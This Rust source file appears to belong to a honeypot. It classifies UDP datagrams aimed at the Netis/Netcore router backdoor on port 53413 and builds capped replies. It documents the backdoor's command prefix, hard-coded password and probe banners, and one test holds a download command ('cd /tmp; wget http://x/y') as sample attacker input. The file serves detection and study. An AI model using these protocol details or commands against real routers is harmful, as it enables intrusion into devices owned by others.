//! The Netis/Netcore router backdoor on 53413/UDP (disclosed August 2014),
//! sans-I/O: classify a datagram, and frame replies.
//!
//! Facts it is built on: an 8-byte all-zero probe is answered with a reply
//! ending in `\xD0\xA5Login:`; a bare carriage return gets a reply containing
//! `Login`; commands arrive as `AA\0\0AAAA` + command + `\0` and the reply
//! carries 8 header bytes and then the command's output; the hard-coded
//! password (`netcore`) opens the shell. Scanners infected by some IoT
//! malware also send 18-byte payloads here.

/// The prefix of a command datagram.
pub const COMMAND_PREFIX: &[u8] = b"AA\0\0AAAA";
/// The backdoor's hard-coded password.
pub const PASSWORD: &[u8] = b"netcore";
/// What the probe reply ends with.
pub const LOGIN_TAIL: &[u8] = b"\xD0\xA5Login:";
/// What the probe reply of other firmware versions ends with (scanners
/// accept either).
pub const STATUS_TAIL: &[u8] = b"\x00\x00\x00\x05\x00\x01\x00\x00\x00\x00\x01\x00\x00";
/// What the backdoor says to the password (vulnerability scanners look
/// for `Login successed`).
pub const LOGIN_OK: &[u8] = b"Login successed!\n";

/// What a datagram is.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Kind {
    /// The 8-byte all-zero probe.
    Probe,
    /// A bare carriage return (scan projects' probe) or an empty datagram
    /// (vulnerability scanners' probe).
    CarriageReturn,
    /// Any 8-byte header + password.
    Login,
    /// `AA\0\0AAAA` + a command (without its trailing NUL).
    Command(Vec<u8>),
    /// An 18-byte payload, as infected scanners send.
    Scan18,
    Other,
}

impl Kind {
    pub fn name(&self) -> &'static str {
        match self {
            Kind::Probe => "probe",
            Kind::CarriageReturn => "probe",
            Kind::Login => "login",
            Kind::Command(_) => "command",
            Kind::Scan18 => "scan-18",
            Kind::Other => "other",
        }
    }
}

pub fn classify(d: &[u8]) -> Kind {
    if d.len() == 8 && d.iter().all(|b| *b == 0) {
        return Kind::Probe;
    }
    if d.is_empty() || d == b"\r" || d == b"\r\n" || d == b"\n" {
        return Kind::CarriageReturn;
    }
    // The backdoor reads the password after any 8-byte header.
    if d.len() > 8 && body(&d[8..]) == PASSWORD {
        return Kind::Login;
    }
    if let Some(rest) = d.strip_prefix(COMMAND_PREFIX) {
        return Kind::Command(body(rest).to_vec());
    }
    if d.len() == 18 {
        return Kind::Scan18;
    }
    Kind::Other
}

/// A datagram's text: up to the first NUL, without a line ending.
fn body(rest: &[u8]) -> &[u8] {
    let end = rest.iter().position(|b| *b == 0).unwrap_or(rest.len());
    let cmd = &rest[..end];
    cmd.strip_suffix(b"\r\n")
        .or_else(|| cmd.strip_suffix(b"\n"))
        .unwrap_or(cmd)
}

/// The smallest reply cap: the header and the login banner (a 1-byte CR
/// probe must still see `Login`).
pub const MIN_REPLY: usize = 16;

/// A reply: the 8-byte header, then the body, cut so the whole reply is at
/// most `factor` times the request's size, or [`MIN_REPLY`] bytes (a spoofed
/// source must not turn the honeypot into an amplifier).
pub fn reply(body: &[u8], request_len: usize, factor: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(8 + body.len());
    out.extend_from_slice(COMMAND_PREFIX);
    let room = (request_len * factor).max(MIN_REPLY).saturating_sub(8);
    out.extend_from_slice(&body[..body.len().min(room)]);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn kinds() {
        assert_eq!(classify(&[0; 8]), Kind::Probe);
        assert_eq!(classify(b"\r"), Kind::CarriageReturn);
        assert_eq!(classify(b"AA\0\0AAAAnetcore\0"), Kind::Login);
        assert_eq!(
            classify(b"AA\0\0AAAAcd /tmp; wget http://x/y\0"),
            Kind::Command(b"cd /tmp; wget http://x/y".to_vec())
        );
        assert_eq!(classify(&[7; 18]), Kind::Scan18);
        assert_eq!(classify(b"hello"), Kind::Other);
        assert_eq!(classify(b""), Kind::CarriageReturn);
        assert_eq!(classify(b"XXXXXXXXnetcore"), Kind::Login);
    }

    #[test]
    fn replies_never_amplify_beyond_the_factor() {
        let r = reply(&[b'x'; 1000], 20, 3);
        assert_eq!(r.len(), 60);
        assert!(r.starts_with(COMMAND_PREFIX));
        assert_eq!(reply(b"ok", 100, 3), b"AA\0\0AAAAok");
        assert_eq!(
            reply(LOGIN_TAIL, 1, 3).len(),
            MIN_REPLY,
            "a CR probe still sees Login"
        );
    }
}
